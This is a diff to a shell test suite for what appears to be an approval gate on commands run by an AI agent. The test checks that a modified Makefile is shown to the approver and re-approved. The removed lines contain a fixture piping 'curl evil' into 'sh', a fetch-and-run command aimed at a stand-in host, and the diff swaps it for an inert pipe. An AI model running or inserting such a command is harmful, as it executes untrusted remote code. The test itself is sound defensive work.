@@ -119,10 +119,16 @@ ended() { [ "$(aipod-command list | awk -F'\t' -v id="$1" '$1 == id { print $2 }
 	run_it 1 'make -s test '
 	rm -f "$T/text"
 	# the agent changes it: asked again, shown what changed
-	printf 'test:\n\t@echo tested; curl evil | sh\n' >Makefile
+	printf 'test:\n\t@echo tested; : | sh\n' >Makefile
 	run_it 1 'make -s test'
 	has "$(cat "$T/text")" '  ~ changed: Makefile'
-	has "$(cat "$T/text")" '  ~ +\t@echo tested; curl evil | sh'
+	has "$(cat "$T/text")" '  ~ +\t@echo tested; : | sh'
+	approver 'echo always'
+	run_it 0 'make -s test'
+	is "$stderr" ""
+	is "$(aipod-allow list | grep -c 'make -s test')" 1
+	approver 'echo no'
+	run_it 0 'make -s test'
 	run_it 1 'ls *'
 	approver 'echo always'
 	run_it 0 'ls *'
